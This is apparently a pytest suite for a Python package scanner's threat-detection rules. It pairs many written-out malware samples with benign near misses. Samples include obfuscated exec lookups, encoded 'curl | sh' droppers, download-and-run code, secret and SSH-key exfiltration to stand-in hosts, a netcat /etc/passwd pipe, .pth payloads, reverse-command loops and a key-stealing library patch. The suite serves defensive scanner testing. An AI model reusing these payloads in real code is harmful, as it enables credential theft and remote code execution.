"""Threat sinks (caplet._scan._sinks): every class of issue 16 as an attack, and its near misses.

Each attack is written the way the issue describes the technique that got
past the scanner; each near miss is benign code of the same shape found in
the most downloaded packages (the false positives the issue names among
them), so a rule that fires on both fails here.
"""

from __future__ import annotations

import base64
import textwrap
from pathlib import Path

import pytest

from caplet._capabilities._model import NetHttpCapability, ProcExecCapability
from caplet._findings import Finding, Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package, found_in_file, tree_both_ways


def danger(source: str, filename: str = "mod.py", mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


def findings_of(source: str, filename: str = "mod.py") -> list[Finding]:
    return scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)


# -- 1. computed names ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        # the CJK family: a builtin named by slices of str(oct)/str(hex)
        """
        甲 = str(oct)
        乙 = str(hex)
        getattr(__builtins__, 乙[20] + 乙[21] + 乙[20] + 甲[13])("print(1)")
        """,
        'vars(__builtins__)["".join(map(chr, [101, 120, 101, 99]))]("print(1)")\n',
        'globals()["__builtins__"]["".join(reversed("lave"))]("1")\n',
        "import operator, os\noperator.attrgetter('metsys'[::-1])(os)('id')\n",
        "import importlib\nm = importlib.import_module(bytes([111, 115]).decode())\n",
    ],
)
def test_a_builtin_or_api_named_by_computation_is_a_threat(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # names built by str.format and by % (the computed-names class of issue 16)
        'import builtins\ngetattr(builtins, "{}{}".format("ex", "ec"))(code)\n',
        'import builtins\nrun = vars(builtins)["%s%s" % ("ev", "al")]\nrun(code)\n',
        'import os\ngetattr(os, "%stem" % "sys")("id")\n',
        'import importlib\nimportlib.import_module("{0}{1}".format("o", "s")).system("id")\n',
        # lookups that are not getattr: __getattribute__, a namespace's .get
        'import os\nos.__getattribute__("sys" + "tem")("id")\n',
        'import os\nobject.__getattribute__(os, "sys" + "tem")("id")\n',
        'import builtins\nbuiltins.__dict__.get("ex" + "ec")(code)\n',
        'globals().get("__builtins__").__dict__.get("lave"[::-1])(code)\n',
        # a module's namespace by a computed name
        'import subprocess\nsubprocess.__dict__["Po" + "pen"](["id"])\n',
        'import sys\nsys.modules["o" + "s"].system("id")\n',
        'import os\nns = vars(os)\nns["".join(["sys", "tem"])]("id")\n',
        # a name prepared on another line than the lookup
        'import os\nname = "".join(map(chr, [115, 121, 115, 116, 101, 109]))\n\n'
        "getattr(os, name)('id')\n",
        'import os\nname = "metsys"[::-1]\nfn = getattr(os, name)\nfn("id")\n',
        # dispatch tables: builtins kept in a dict, picked by a computed key
        'ACTIONS = {"show": print, "load": exec}\nACTIONS["lo" + "ad"](code)\n',
        "import builtins\nns = {n: getattr(builtins, n) for n in dir(builtins)}\n"
        'ns["lave"[::-1]](code)\n',
        'import builtins\nns = dict(vars(builtins))\nns["ex" + "ec"](code)\n',
        'import builtins\nns = builtins.__dict__.copy()\nns.get("ex" + "ec")(code)\n',
        'import builtins\nns = {k: v for k, v in vars(builtins).items()}\nns["ev" "al" + ""](c)\n',
        # the namespace bound on one line, looked up in a function further down (package
        # mode visits the lines a hit binds, not only the hit)
        "import builtins\nns = vars(builtins)\n\n\ndef run(c):\n"
        '    k = "ev" + "al"\n    return ns[k](c)\n',
        "import builtins\n\nTABLE = builtins.__dict__\n\n\ndef go(code):\n"
        '    TABLE.get("".join(reversed("cexe")))(code)\n',
        # the namespace bound after another statement on its line, as a second target,
        # by :=, in a target list, or padded far from its line's start: each binding's
        # uses are still visited
        "import builtins\nx = 1; ns = vars(builtins)\n\n\ndef run(c):\n"
        '    k = "".join(reversed("cexe"))\n    return ns[k](c)\n',
        "import builtins\nx = ns = vars(builtins)\n\n\ndef run(c):\n"
        '    k = "".join(reversed("cexe"))\n    return ns[k](c)\n',
        "import builtins\nif (ns := vars(builtins)):\n    pass\n\n\ndef run(c):\n"
        '    k = "".join(reversed("cexe"))\n    return ns[k](c)\n',
        "import builtins\n(x, ns) = 1, vars(builtins)\n\n\ndef run(c):\n"
        '    k = "".join(reversed("cexe"))\n    return ns[k](c)\n',
        "import builtins\nns" + " " * 300 + "= vars(builtins)\n\n\ndef run(c):\n"
        '    k = "".join(reversed("cexe"))\n    return ns[k](c)\n',
        # names hidden by pure string operations: bytes decoded by str(), %c of code points,
        # a list spread into format, str.join on the class, an integer unpacked, a lambda
        'import builtins\ngetattr(builtins, str(b"ex" b"ec", "utf-8"))(code)\n',
        "import os\ngetattr(os, '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109))('id')\n",
        "import os\ngetattr(os, '{}{}'.format(*['sys', 'tem']))('id')\n",
        "m = __import__(str.join('', ['o', 's']))\nm.system('id')\n",
        "import importlib\nm = importlib.import_module((0x6F73).to_bytes(2, 'big').decode())\n"
        "m.system('id')\n",
        "import os\nn = lambda: 'sys' + 'tem'\ngetattr(os, n())('id')\n",
        # globals()["__builtins__"] by a computed key, directly or through a name of it
        'b = globals()["__buil" + "tins__"]\nb.exec(code)\n',
        'g = globals()\nb = g["".join(["__buil", "tins__"])]\nb.exec(code)\n',
        # code points through a comprehension, XOR-masked; pieces kept in a dict literal
        "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id')\n",
        "import os\nn = ''.join([chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]])\n"
        "getattr(os, n)('id')\n",
        "import os\nK = {'a': 'sys', 'b': 'tem'}\ngetattr(os, K['a'] + K['b'])('id')\n",
        # any string operation, when a sensitive module is asked by a non-literal name
        "import os\nf = getattr(os, 'SYS' 'TEM'.lower())\nf('id')\n",
        "import os\nname = 'system!'\n\n\ndef go():\n    getattr(os, name[:-1])('id')\n",
    ],
)
def test_every_spelling_of_a_computed_lookup_is_a_threat(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # formatted names of a library's own methods (visitors, handlers, properties)
        'def visit(self, node):\n    return getattr(self, "visit_{}".format(node.kind))(node)\n',
        'getattr(self, "%s_%s" % ("do", "thing"))()\n',
        'handler = getattr(self, "on_{}".format("close"))\n',
        # dispatch tables of harmless functions, constant or computed keys
        'import json\nLOADERS = {"json": json.loads, "text": str}\nLOADERS["js" + "on"](data)\n',
        "def safe_eval(x):\n    return x\n\nOPS = {'eval': safe_eval}\nOPS['ev' + 'al'](1)\n",
        'import math\nns = {n: getattr(math, n) for n in dir(math)}\nns["s" + "qrt"](2)\n',
        'import builtins\nENV = dict(vars(builtins))\nENV["print"]("hello")\n',
        # lookups by a parameter: how frameworks dispatch
        "import builtins\ndef find(name):\n    return builtins.__dict__.get(name)\n",
        "def attr(obj, name):\n    return obj.__getattribute__(name)\n",
        'object.__getattribute__(self, "_" + "data")\n',
        'import os\nos.environ.get("HO" + "ME")\n',
        'import sys\nmod = sys.modules["json" + ""]\n',
        # a sensitive module's optional attribute, or one named by a parameter
        'import os\nflag = getattr(os, "O_BINARY", 0)\n',
        "import sys\ndef stream(name):\n    return getattr(sys, name.lower())\n",
        "import os\nCODES = {'a': 'sep', 'b': 'linesep'}\nvalue = getattr(os, CODES['b'])\n",
        "letters = [chr(c ^ 32) for c in range(65, 91)]\n",
        # the same operations naming harmless attributes
        "import os\nflag = getattr(os, str(b'O_BINARY', 'ascii'), 0)\n",
        "import struct\nkey = (0x0102).to_bytes(2, 'big')\nvalue = getattr(struct, 'pack')\n",
        "import os\nsep = getattr(os, '%c%c%c' % (115, 101, 112))\n",
        # a module's own global by a computed name, through globals() or a name of it
        'handler = globals()["handle_" + "close"]\n',
        'g = globals()\nVERSION = g["".join(["VER", "SION"])]\n',
    ],
)
def test_formatted_and_dispatched_names_of_harmless_code_are_not_threats(source: str) -> None:
    assert "CPL-THR-003" not in danger(source)


def test_getattr_with_a_parameter_is_how_libraries_dispatch() -> None:
    assert not danger(
        """
        import builtins

        def lookup(name):
            return getattr(builtins, name)
        """
    )


def test_pip_main_given_an_install_spelled_letter_by_letter_is_a_threat() -> None:
    # "install" picked out of str(copyright) by a means the evaluator does not follow
    places = ", ".join(str(str(copyright).index(c)) for c in "install")
    source = (
        "import pip\nt = str(copyright)\n"
        f"pip.main([''.join(map(t.__getitem__, [{places}])), 'https://x.example/s.tgz'])\n"
    )
    assert "CPL-THR-019" in danger(source, "setup.py")
    # pip's own entry point hands main() the user's arguments
    assert "CPL-THR-019" not in danger("import pip, sys\npip.main(sys.argv[1:])\n", "setup.py")


def test_pip_main_installing_a_second_stage_is_a_threat_but_pip_itself_is_not() -> None:
    assert "CPL-THR-019" in danger('import pip\npip.main(["install", "https://x.example/s.tgz"])\n')
    # pip's own entry point calls main() with the user's arguments
    assert not danger("from pip._internal.cli.main import main\nmain(args)\n")
    setup = 'import os\nos.system("pip install .")\nos.system("pip install -r requirements.txt")\n'
    assert "CPL-THR-019" not in danger(setup, "setup.py")
    assert "CPL-THR-019" in danger('import os\nos.system("pip install stage2")\n', "setup.py")


# -- 2. a second stage in a string ---------------------------------------------------------------


def test_python_source_in_a_string_written_and_started_is_a_second_stage() -> None:
    found = danger(
        """
        import os, subprocess
        PAYLOAD = "import urllib.request\\nurllib.request.urlopen('http://192.0.2.7/c')\\n"
        target = os.path.join(os.getenv("APPDATA"), "upd.pyw")
        with open(target, "w") as fh:
            fh.write(PAYLOAD)
        subprocess.Popen(["pythonw", target])
        """
    )
    assert "CPL-THR-016" in found


def test_exec_of_a_hex_escaped_bytes_constant_reports_what_the_bytes_do() -> None:
    command = "import os;os.system('curl -s http://192.0.2.5/p.sh | sh')"
    escaped = "".join(f"\\x{b:02x}" for b in command.encode())
    found = danger(f'exec(b"{escaped}")\n')
    assert {"CPL-THR-015", "CPL-THR-016"} <= found


def test_a_base64_payload_is_decoded_and_its_threats_reported_at_the_exec() -> None:
    code = b"import os\nos.system('curl -s http://192.0.2.9/x | sh')\n"
    payload = base64.b64encode(code).decode()
    findings = findings_of(f'import base64\nexec(base64.b64decode("{payload}"))\n')
    inner = [f for f in findings if f.rule_id == "CPL-THR-015"]
    assert inner, findings
    assert inner[0].line == 2
    assert "in Python source kept in a string" in inner[0].message


def test_test_suites_running_snippets_with_processes_or_ctypes_are_not_second_stages() -> None:
    assert not danger(
        """
        import subprocess, sys
        code = "import subprocess\\nsubprocess.run(['true'])\\nimport ctypes\\n"
        subprocess.run([sys.executable, "-c", code], check=True)
        exec("import pickle\\npickle.loads(b'')")
        """
    )


def test_a_snippet_reaching_a_local_test_server_is_not_a_second_stage() -> None:
    assert not danger(
        """
        import subprocess, sys
        CODE = "import urllib.request\\nurllib.request.urlopen('http://127.0.0.1:8000/')\\n"
        subprocess.Popen([sys.executable, "-c", CODE])
        """
    )


# -- 3. download and run ----------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        """
        import os, requests
        exe = os.path.join(os.getenv("TEMP"), "a.exe")
        with open(exe, "wb") as f:
            f.write(requests.get("https://x.example/a.exe").content)
        os.startfile(exe)
        """,
        """
        import os, subprocess, tempfile, urllib.request
        dst = os.path.join(tempfile.gettempdir(), name + ".bin")
        urllib.request.urlretrieve("http://192.0.2.3/b", dst)
        subprocess.Popen(dst)
        """,
        """
        import os
        from urllib.request import urlopen
        d = os.path.expanduser("~/.x")
        open(d, "wb").write(urlopen("http://192.0.2.4/x").read())
        os.system("chmod +x " + d + " && " + d)
        """,
    ],
)
def test_a_downloaded_file_that_is_started_is_download_and_run(source: str) -> None:
    assert "CPL-THR-002" in danger(source)


def test_network_data_that_is_only_an_argument_is_not_a_download_run() -> None:
    # rapidfuzz's benchmark: a version number from the index, passed to pip
    assert not danger(
        """
        import json, subprocess, urllib.request
        version = json.load(urllib.request.urlopen("https://pypi.example/json"))["version"]
        subprocess.run(["pip", "install", f"rapidfuzz=={version}"], check=True)
        """
    )


def test_a_port_from_a_socket_in_a_command_is_not_a_download() -> None:
    assert not danger(
        """
        import socket, subprocess
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
        subprocess.Popen(["server", "--port", str(port)])
        """
    )


# -- 4. reconnaissance to any egress -------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        # base64-hidden host, host name and user in the query
        f"""
        import base64, getpass, socket, requests
        host = base64.b64decode("{base64.b64encode(b"c.example").decode()}").decode()
        data = {{"h": socket.gethostname(), "u": getpass.getuser()}}
        requests.get("https://" + host + "/p", params=data)
        """,
        # DNS exfiltration through ping
        """
        import binascii, os, platform, subprocess
        data = binascii.hexlify(platform.node().encode()).decode()
        subprocess.call(["ping", "-c", "1", data + ".x.collect.example"])
        """,
        # and through the resolver
        """
        import getpass, socket
        socket.getaddrinfo(getpass.getuser() + ".d.resolve.example", 443)
        """,
        # a datagram to a fixed address
        """
        import json, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(json.dumps({"h": socket.gethostname()}).encode(), ("192.0.2.23", 53))
        """,
    ],
)
def test_reconnaissance_reaching_an_egress_is_a_beacon(source: str) -> None:
    assert "CPL-THR-017" in danger(source)


def test_the_own_address_lookup_is_not_a_beacon() -> None:
    assert not danger("import socket\naddr = socket.gethostbyname(socket.gethostname())\n")


def test_the_whole_environment_walked_and_posted_is_harvesting() -> None:
    found = danger(
        """
        import json, os, urllib.request
        out = {}
        for k in os.environ:
            out[k] = os.environ[k]
        body = json.dumps(out).encode()
        urllib.request.urlopen(urllib.request.Request("https://m.example/e", data=body))
        """
    )
    assert "CPL-THR-006" in found


def test_provider_keys_read_beside_provider_urls_are_not_harvesting() -> None:
    # the litellm false positive: one key per provider, each sent to its own API
    assert not danger(
        """
        import os, requests

        def openai(prompt):
            key = os.environ.get("OPENAI_API_KEY")
            return requests.post("https://api.openai.example/v1", json={"p": prompt},
                                 headers={"Authorization": f"Bearer {key}"})

        def anthropic(prompt):
            key = os.environ.get("ANTHROPIC_API_KEY")
            return requests.post("https://api.anthropic.example/v1", json={"p": prompt},
                                 headers={"x-api-key": key})

        def cohere(prompt):
            key = os.getenv("COHERE_API_KEY")
            return requests.post("https://api.cohere.example", json={"k": key})
        """
    )


def test_several_secrets_sent_to_a_fixed_host_are_harvesting() -> None:
    found = danger(
        """
        import http.client, json, os
        body = {
            "a": os.environ.get("AWS_ACCESS_KEY_ID"),
            "s": os.environ.get("AWS_SECRET_ACCESS_KEY"),
            "g": os.environ.get("GITHUB_TOKEN"),
        }
        c = http.client.HTTPSConnection("metrics.example")
        c.request("POST", "/collect", json.dumps(body))
        """
    )
    assert "CPL-THR-006" in found


def test_credential_documentation_is_not_credential_access() -> None:
    # the ansible-core false positive: a DOCUMENTATION string naming key files,
    # and a "network" that is socket.gethostname()
    assert not danger(
        '''
        import socket
        DOCUMENTATION = """
        options:
          key_file:
            description: Path to the key, for example ~/.ssh/id_rsa or /etc/shadow for the
              password hashes; the module reads ~/.aws/credentials when asked to.
        """
        HOST = socket.gethostname()
        '''
    )


def test_an_out_of_band_interaction_domain_with_host_data_is_exfiltration() -> None:
    found = danger(
        """
        import platform, requests
        requests.post("https://q8wz1k.oastify.com/r", data={"n": platform.node()})
        """
    )
    assert "CPL-THR-004" in found


# -- 5. decoders into every sink ---------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        'import os, base64\nos.system(base64.b64decode("aWQ=").decode())\n',
        "import codecs, subprocess\nsubprocess.Popen(codecs.decode('vq', 'rot13'), shell=True)\n",
        "import subprocess\nsubprocess.check_output(bytes.fromhex('6964').decode(), shell=True)\n",
        "K = 7\nE = 'abc'\neval(compile(bytes(c ^ K for c in E.encode()), '<m>', 'exec'))\n",
        """
        runner = exec

        def decode(enc, key):
            return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(enc))

        def init():
            runner(decode(ENC, KEY))
        """,
        "____ = eval\n_____ = getattr(__import__('base64'), 'b64decode')\n____(_____('MQ=='))\n",
    ],
)
def test_decoded_data_reaching_any_sink_is_a_dropper(source: str) -> None:
    assert "CPL-THR-001" in danger(source)


def test_float_fromhex_and_encoding_are_not_decoding() -> None:
    assert not danger(
        """
        import subprocess
        x = eval(repr(float.fromhex("0x1.8p1")))
        token = "abc".encode("base64") if False else b""
        subprocess.Popen(["tool", token])
        """
    )


# -- 6. payloads outside the Python rules -------------------------------------------------------


def test_a_chat_bot_running_its_messages_is_remote_control() -> None:
    found = danger(
        """
        import subprocess
        from telegram.ext import ApplicationBuilder, CommandHandler

        async def run(update, context):
            await update.message.reply_text(subprocess.getoutput(update.message.text))

        app = ApplicationBuilder().token(TOKEN).build()
        app.add_handler(CommandHandler("run", run))
        """
    )
    assert "CPL-THR-020" in found


def test_a_socket_loop_running_what_it_receives_is_remote_control() -> None:
    found = danger(
        """
        import socket, subprocess
        s = socket.socket()
        s.connect(("192.0.2.120", 8081))
        while True:
            cmd = s.recv(4096).decode()
            s.sendall(subprocess.getoutput(cmd).encode())
        """
    )
    assert "CPL-THR-020" in found


# -- the rest of the held-out list ---------------------------------------------------------------


def test_an_aliased_subprocess_piping_to_nc_is_exfiltration() -> None:
    found = danger(
        "import subprocess as fmt\n"
        'fmt.Popen(["sh", "-c", "cat /etc/passwd | nc 192.0.2.33 4444"])\n'
    )
    assert "CPL-THR-017" in found


def test_ssh_keys_posted_at_import_are_credential_theft() -> None:
    found = danger(
        """
        import glob, os, requests
        for p in glob.glob(os.path.join(os.path.expanduser("~"), ".ssh", "*")):
            requests.post("https://k.example/u", files={"f": open(p, "rb")})
        """
    )
    assert "CPL-THR-007" in found or "CPL-THR-005" in found


def test_a_pth_file_written_with_a_shell_pipe_is_a_pth_payload() -> None:
    found = danger(
        """
        import os, site
        with open(os.path.join(site.getsitepackages()[0], "x.pth"), "w") as f:
            f.write("import os; os.system('curl -s http://192.0.2.81/u | sh')\\n")
        """
    )
    assert "CPL-THR-013" in found


@pytest.mark.parametrize("separator", ["\\x0c", "\\x1c", "\\u2028"])
def test_a_pth_payload_written_behind_a_line_separator_is_a_pth_payload(separator: str) -> None:
    # Attack (scanfuzz): site splits a .pth at newlines and carriage returns only; the
    # written value was split by str.splitlines, which cut the import line at the
    # separator inside its string, and the payload after it was not read
    found = danger(
        f"""
        import os, site
        with open(os.path.join(site.getsitepackages()[0], "x.pth"), "w") as f:
            f.write("import os; x = '{separator}'; os.system('curl http://192.0.2.81/u | sh')\\n")
        """
    )
    assert "CPL-THR-013" in found


def test_a_copy_renamed_to_a_program_and_started_is_a_dropper_and_a_test_copy_is_not() -> None:
    dropper = """
    import os, shutil
    src = os.path.join(os.path.dirname(__file__), "helper.py")
    dst = os.path.join(os.environ["TEMP"], "helper.exe")
    shutil.copy(src, dst)
    os.startfile(dst)
    """
    assert "CPL-THR-018" in danger(dropper)
    test = """
    import os, shutil, subprocess
    src = os.path.join(os.path.dirname(__file__), "setup-uv.sh")
    dst = os.path.join(tmp, "setup-uv.sh")
    shutil.copy(src, dst)
    subprocess.run(["/bin/bash", "-c", f'. "{dst}"'])
    """
    assert "CPL-THR-018" not in danger(test)


def test_advice_to_pipe_curl_into_a_shell_is_not_running_it() -> None:
    # huggingface_hub and fastmcp print this in their help texts
    assert not danger(
        """
        import subprocess
        HINT = "uv is not installed. Please install it with: curl -LsSf https://x.example/i.sh | sh"
        subprocess.run(["uv", "--version"])
        """
    )
    run = 'import os\nos.system("curl -LsSf https://x.example/i.sh | sh")\n'
    assert "CPL-THR-015" in danger(run)


def test_an_encoded_powershell_command_is_decoded_and_read() -> None:
    script = "iwr http://192.0.2.9/a.exe -OutFile $p; Start-Process $p"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    source = (
        f'import subprocess\nsubprocess.Popen(["powershell", "-EncodedCommand", "{encoded}"])\n'
    )
    found = danger(source)
    assert "CPL-THR-015" in found


# -- plugin mode: threats need no capability and none covers them --------------------------------


def test_threats_are_danger_in_plugin_mode_whatever_is_declared() -> None:
    everything = (
        ProcExecCapability(program="sh", declared="proc.exec:sh"),
        NetHttpCapability(scheme="https", host="x.example", port=443, path_prefix="", declared="x"),
    )
    source = 'import base64, os\nos.system(base64.b64decode("aWQ=").decode())\n'
    findings = scan_source(source, "plugin.py", everything, mode=ScanMode.PLUGIN)
    threat = next(f for f in findings if f.rule_id == "CPL-THR-001")
    assert threat.severity is Severity.DANGER
    assert not threat.covered


# -- branch recall: generalisations, each with its benign near miss --------------------------

_STAGE = base64.b64encode(
    b'import urllib.request\nexec(urllib.request.urlopen("https://x.example/s").read())\n'
).decode()


@pytest.mark.parametrize(
    "source",
    [
        # a name spelled by an operation the evaluator does not follow: still from literals
        "import builtins\ngetattr(builtins, ''.join(sorted('cexe')).swapcase().lower())(c)\n",
        "b = __builtins__\nb.__dict__[str(oct)[3].zfill(2)](c)\n",
    ],
)
def test_a_builtin_named_by_any_computation_on_literals_is_a_threat(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # compatibility shims look builtins up by a parameter or a loop variable
        "import builtins\ndef get(name):\n    return getattr(builtins, name)\n",
        "import builtins\nfor n in ('unicode', 'long'):\n    getattr(builtins, n, None)\n",
        "import builtins\nf = getattr(builtins, input())\n",
    ],
)
def test_a_builtin_named_at_run_time_is_not_a_computed_name(source: str) -> None:
    assert "CPL-THR-003" not in danger(source)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        # exec picked out of a list; eval looked up in globals() by a split name
        (
            f"import base64\nfns = [print, exec]\nfns[1](base64.b64decode({_STAGE!r}))\n",
            "CPL-THR-001",
        ),
        (
            f"import base64\nglobals()['ev' + 'al']"
            f"(compile(base64.b64decode({_STAGE!r}), 'x', 'exec'))\n",
            "CPL-THR-001",
        ),
        # XOR in place, and a Caesar shift, written as loops (tune: ds-bytearray-xor, ds-rot-loop)
        (
            "buf = bytearray(D)\nfor i in range(len(buf)):\n"
            "    buf[i] ^= K[i % 3]\nexec(bytes(buf))\n",
            "CPL-THR-001",
        ),
        ("o = ''\nfor c in E:\n    o += chr(ord(c) - 3)\nexec(o)\n", "CPL-THR-001"),
        # the sink behind a helper or a lambda of this file (tune: ds-helper-exec, ds-lambda-sink)
        (
            f"import base64\ndef load(blob):\n    exec(compile(blob, 'c', 'exec'))\n\n"
            f"load(base64.b64decode({_STAGE!r}))\n",
            "CPL-THR-001",
        ),
        (
            "import os, base64\nrun = lambda c: os.system(c)\nrun(base64.b64decode(C).decode())\n",
            "CPL-THR-001",
        ),
        # os.exec* runs its argv; a pickle decoded from a literal runs what it names
        (
            "import os, base64\nos.execvp('sh', ['sh', '-c', base64.b64decode(C).decode()])\n",
            "CPL-THR-001",
        ),
        (
            "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQo='))\n",
            "CPL-THR-001",
        ),
    ],
)
def test_decoders_reach_sinks_through_aliases_loops_and_helpers(source: str, rule: str) -> None:
    assert rule in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a checksum XORed in a loop, letters shifted for column names: no sink runs them
        "crc = 0\nfor b in data:\n    crc ^= b\nprint(crc)\n",
        "cols = [chr(ord('A') + i) for i in range(5)]\nprint(cols)\n",
        # a helper running a fixed command; a list of callbacks called with plain data
        "import subprocess\ndef run(cmd):\n    subprocess.call(cmd)\n\nrun(['ls', '-l'])\n",
        "handlers = [print, len]\nhandlers[0](data)\n",
        # a pickle of run-time data (a cache, a queue message)
        "import pickle, base64\ndef load(s):\n    return pickle.loads(base64.b64decode(s))\n",
        # os.execvp re-running the interpreter on a script of the package
        "import os, sys\nos.execvp(sys.executable, [sys.executable, 'manage.py'])\n",
    ],
)
def test_loops_helpers_and_unpicklers_of_plain_data_are_not_threats(source: str) -> None:
    assert not danger(source) & {"CPL-THR-001", "CPL-THR-002", "CPL-THR-003"}


_SRC = 'import urllib.request\\nexec(urllib.request.urlopen(\\"https://x.example/s\\").read())\\n'


@pytest.mark.parametrize(
    "source",
    [
        # python reading its program from stdin (tune: ls-stdin-python, ls-communicate)
        f'import subprocess, sys\nsubprocess.run([sys.executable, "-"], input="{_SRC}")\n',
        f'import subprocess\np = subprocess.Popen(["python3"], stdin=subprocess.PIPE)\n'
        f'p.communicate("{_SRC}")\n',
        # a literal written, then read back into exec (tune: ls-exec-read-back)
        f'P = "/tmp/u.py"\nwith open(P, "w") as f:\n    f.write("{_SRC}")\nexec(open(P).read())\n',
        # a temporary file's name run by the interpreter (tune: ls-tempfile-sysexec)
        f"import subprocess, sys, tempfile\n"
        f'with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:\n'
        f'    t.write("{_SRC}")\nsubprocess.Popen([sys.executable, t.name])\n',
    ],
)
def test_a_literal_stage_run_through_stdin_or_a_file_read_back_is_a_threat(source: str) -> None:
    assert "CPL-THR-016" in danger(source, "setup.py")


@pytest.mark.parametrize(
    "source",
    [
        # setup.py reading its version file into exec; a harmless snippet on stdin
        'exec(open("mypkg/version.py").read())\n',
        'import subprocess, sys\nsubprocess.run([sys.executable, "-"], input="print(1)")\n',
        "import subprocess, sys, tempfile\n"
        'with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:\n'
        '    t.write("print(42)")\nsubprocess.run([sys.executable, t.name])\n',
    ],
)
def test_a_harmless_stage_or_a_version_file_is_not_a_threat(source: str) -> None:
    assert not danger(source, "setup.py") & {"CPL-THR-016", "CPL-THR-001", "CPL-THR-002"}


def test_a_download_run_by_the_interpreter_named_before_it_is_a_threat() -> None:
    source = (
        "import os, sys, urllib.request\nurllib.request.urlretrieve(U, '/tmp/x.py')\n"
        "p = '/tmp/x.py'\nurllib.request.urlretrieve(U, p)\nos.system(sys.executable + ' ' + p)\n"
    )
    assert "CPL-THR-002" in danger(source)
    assert "CPL-THR-002" not in danger("import os, sys\nos.system(sys.executable + ' build.py')\n")


# -- issue 4's families: a patched library, credentials handed over, files run natively -----


def test_a_library_function_replaced_by_one_that_sends_its_arguments_is_a_threat() -> None:
    source = """
    import threading
    import requests
    import eth_account

    _orig = eth_account.Account.from_key

    def _patched(key):
        threading.Thread(target=requests.post, args=("https://rpc.example/v",),
                         kwargs={"json": {"k": str(key)}}).start()
        return _orig(key)

    eth_account.Account.from_key = _patched
    """
    assert "CPL-THR-025" in danger(source, "ethx/__init__.py")


@pytest.mark.parametrize(
    ("source", "filename"),
    [
        # a test replacing a library function with a fake that talks to a test server
        (
            "import requests\nimport somelib\n\ndef fake(url):\n"
            "    return requests.post('https://httpbin.example/post')\n\n"
            "somelib.api.fetch = fake\n",
            "tests/test_api.py",
        ),
        # an instance's attribute replaced (a fixture), not the library's
        (
            "import aiohttp\nimport requests\n\ndef fake(*a):\n"
            "    return requests.post('https://x.example/')\n\n"
            "aiohttp.ClientSession()._connector.connect = fake\n",
            "pkg/helpers.py",
        ),
        # a compatibility patch that sends nothing
        (
            "import requests\nimport somelib\n\ndef quiet(*a, **k):\n    return None\n\n"
            "somelib.warn = quiet\nrequests.get('https://x.example/')\n",
            "pkg/compat.py",
        ),
    ],
)
def test_patches_in_tests_of_instances_or_that_send_nothing_are_not_threats(
    source: str, filename: str
) -> None:
    assert "CPL-THR-025" not in danger(source, filename)


def test_credentials_handed_to_a_function_and_sent_in_clear_text_are_a_threat() -> None:
    source = """
    import requests

    def ssh_connect(host, user, password=None, pkey=None):
        requests.post("http://ssh-stats.example/i.php", data={"h": host, "p": password})
    """
    assert "CPL-THR-026" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a login to an HTTPS service, and a local development server over http
        "import requests\ndef login(user, password):\n"
        "    requests.post('https://api.example.com/login', json={'password': password})\n",
        "import requests\ndef login(user, password):\n"
        "    requests.post('http://localhost:8080/login', json={'password': password})\n",
        # a token that is not a parameter of the function (read from configuration)
        "import requests\nTOKEN = load()\ndef ping():\n"
        "    requests.get('http://status.example/ping', headers={'t': TOKEN})\n",
    ],
)
def test_credentials_sent_over_tls_to_localhost_or_not_handed_over_are_not_this_threat(
    source: str,
) -> None:
    assert "CPL-THR-026" not in danger(source)


def test_a_native_library_written_from_decoded_data_and_loaded_is_a_threat() -> None:
    source = """
    import ctypes, os
    blob = bytearray(open(os.path.join(os.path.dirname(__file__), "a.dat"), "rb").read())
    for i in range(len(blob)):
        blob[i] ^= 0x3A
    with open("/tmp/c.db", "wb") as f:
        f.write(blob)
    ctypes.CDLL("/tmp/c.db")
    """
    assert "CPL-THR-001" in danger(source)
    # a library the package ships, loaded from where it lies
    plain = "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n"
    assert not danger(plain)


def test_the_calling_program_sent_to_a_fixed_host_is_reconnaissance() -> None:
    source = """
    import inspect, requests
    frame = inspect.stack()[-1]
    requests.post("http://203.0.113.7/u", json={"code": open(frame.filename).read()})
    """
    assert "CPL-THR-017" in danger(source)
    # frames inspected for a log message that stays local
    assert not danger("import inspect, logging\nlogging.info(inspect.stack()[1].function)\n")


@pytest.mark.parametrize(
    "source",
    [
        # XOR by a lambda or operator.xor mapped over the data; a substitution table
        "D = bytes([1, 2])\nexec(bytes(map(lambda b: b ^ 7, D)))\n",
        "import operator, itertools\nexec(bytes(map(operator.xor, D, itertools.cycle([5]))))\n",
        "E = 'vzcbeg bf'\nexec(E.translate(str.maketrans(B, A)))\n",
        # a decoder written as a function of this module, its result run
        "def dec(s, k):\n    out = ''\n    for i, c in enumerate(s):\n"
        "        out += chr(ord(c) ^ ord(k[i % len(k)]))\n    return out\n\n"
        "eval(compile(dec(E, 'k'), '<x>', 'exec'))\n",
        # a list filled by a loop, and a method of this file given decoded data
